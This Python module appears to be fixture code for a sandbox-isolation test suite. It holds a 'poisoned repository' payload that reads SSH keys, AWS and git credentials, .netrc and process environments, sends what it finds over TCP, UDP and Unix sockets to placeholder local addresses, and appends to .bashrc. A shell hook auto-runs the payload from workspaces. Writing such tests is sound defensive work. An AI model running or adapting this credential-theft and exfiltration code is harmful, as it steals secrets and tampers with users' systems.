"""What a poisoned repository runs wherever it gets something to run: it grabs, it tells, it marks, all that it can.

Its text is the program; a test fills in the names of the host's places. It says on its error output what it achieved.
"""

PAYLOAD = """
import contextlib, glob, os, socket, sys

grabbed, told, marked = [], [], []
files = ["@HOME@/.ssh/id_ed25519", "@HOME@/.aws/credentials", "@HOME@/.git-credentials", "@HOME@/.netrc",
         "@LOOT@/secret", "@SIBLING@/secret.py", *glob.glob("/proc/[0-9]*/environ")]
for path in files:
    with contextlib.suppress(OSError):
        content = open(path, "rb").read()
        if b"cnry" in content or b"PYTEST_CURRENT_TEST" in content:
            grabbed.append(content.decode(errors="replace")[:300])
streams = [(socket.AF_INET, ("127.0.0.1", @HTTP@)), (socket.AF_INET6, ("::1", @HTTP6@)),
           (socket.AF_UNIX, "@SOCKET@"), (socket.AF_UNIX, "\\0@ABSTRACT@")]
for family, address in streams:
    with contextlib.suppress(OSError), socket.socket(family) as out:
        out.settimeout(1)
        out.connect(address)
        out.sendall(f"GET /{' '.join(grabbed)} HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n".encode())
        told.append(str(address))
with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    out.settimeout(1)
    out.connect(("127.0.0.1", @UDP@))
    out.send(b"from within")
    out.recv(10)
    told.append("udp")
for path in ("@LOOT@/anybody/mark", "@LOOT@/secret", "@HOME@/.bashrc", "@SIBLING@/secret.py"):
    with contextlib.suppress(OSError):
        open(path, "a").write("marked")
        marked.append(path)
said = f"payload: {len(grabbed)} grabbed, {len(told)} told, {len(marked)} marked"
print(said, grabbed, told, marked, file=sys.stderr)
with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "payload.log"), "a") as log:
    print(said, file=log)
"""
NOTHING = "payload: 0 grabbed, 0 told, 0 marked"

HOOK = """#!/bin/sh
for place in . /workspace @WORK@/executions/*/workspace; do
    [ -f $place/payload.py ] && exec python3 $place/payload.py
done
"""
"""The same as a program that can lie anywhere."""
